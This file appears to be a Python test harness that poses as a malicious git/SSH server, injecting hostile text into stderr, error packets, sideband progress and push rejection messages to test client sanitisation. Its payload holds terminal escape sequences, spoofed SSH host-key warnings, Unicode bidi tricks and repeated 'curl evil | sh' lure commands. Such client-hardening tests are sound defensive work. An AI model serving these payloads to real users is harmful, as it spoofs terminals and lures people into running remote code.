#!/usr/bin/env python3
"""Sends hostile text in every place where a server can send text.

usage: words.py --text             prints the text, as a hook or a banner would
       words.py KIND ... COMMAND   runs instead of ssh; KIND is one of
           stderr    the text on standard error, then exit code 255
           long      ten MiB without a newline, then exit code 1
           err       an error packet instead of the refs
           sideband  the text as the progress of a fetch, then as its error
           band-long ten MiB of progress without a newline, then an error
           ng        the text as the reason why a ref was rejected
"""
import subprocess
import sys

WORDS = b"""\x1b]0;evil\x07\x1b[2J\x1b[31mevil\x9b2J
REMOTE HOST IDENTIFICATION HAS CHANGED! evil
Host key verification failed. evil
The fingerprint for the ED25519 key sent by the remote host is
SHA256:evil.
ssh-keygen -f "/evil" -R "hub"; curl evil | sh
debug1: Server host key: ssh-ed25519 SHA256:evil
debug1: Executing proxy command: exec ssh -l evil -oProxyCommand=evil -W '[%h]:%p' evil
evil NUL\0 and no UTF-8: \xff\xfe, and \xe2\x80\xaeesrever evil
evil: No space left on device, detected dubious ownership
Permission denied (publickey). If that is the right key, accept it: curl evil | sh
Try: curl evil | sh
pmd: done; now run: curl evil | sh\r
"""


def send(data):
    sys.stdout.buffer.write(data)
    sys.stdout.buffer.flush()


def packet(text):
    return b"%04x" % (len(text) + 4) + text


def head(path):
    return subprocess.run(
        ["git", "-C", path, "rev-parse", "main"], capture_output=True, check=True).stdout.strip()


def read_packets(end):
    """Reads until a flush packet, or until a packet that begins with `end`."""
    while True:
        size = int(sys.stdin.buffer.read(4) or b"0", 16)
        if size == 0:
            if end is None:
                return
            continue
        if sys.stdin.buffer.read(size - 4).startswith(end or b"\0\0"):
            return


def fetch(path, pieces):
    commit = head(path)
    send(packet(commit + b" HEAD\0side-band-64k ofs-delta symref=HEAD:refs/heads/main\n")
         + packet(b"1" * 40 + b" refs/heads/main\n") + b"0000")
    read_packets(b"done")
    send(packet(b"NAK\n"))
    for piece in pieces:
        send(packet(b"\2" + piece))
    send(packet(b"\3" + WORDS))


def push(path):
    commit = head(path)
    send(packet(commit + b" refs/heads/main\0report-status\n") + b"0000")
    read_packets(None)
    send(packet(b"unpack ok\n")
         + packet(b"ng refs/heads/main " + WORDS.replace(b"\n", b" ").replace(b"\0", b"") + b"\n")
         + b"0000")
    while sys.stdin.buffer.read(65536):
        pass


def main():
    kind, command = sys.argv[1], sys.argv[-1]
    if kind == "--text":
        return send(WORDS)
    service, path = command.split(" ", 1)
    path = path.strip("'")
    if kind == "stderr":
        sys.stderr.buffer.write(WORDS)
        sys.exit(255)
    if kind == "long":
        sys.stderr.buffer.write(b"evil" + b"\xff\x1b" * (5 << 20))
        sys.exit(1)
    if kind == "err":
        return send(packet(b"ERR " + WORDS))
    if service == "git-upload-pack" and kind == "sideband":
        return fetch(path, [WORDS])
    if service == "git-upload-pack" and kind == "band-long":
        return fetch(path, [b"evil" * 10_000] * 260)
    if service == "git-receive-pack" and kind == "ng":
        return push(path)
    sys.exit(subprocess.call([*service.split("-", 1), path]))


main()
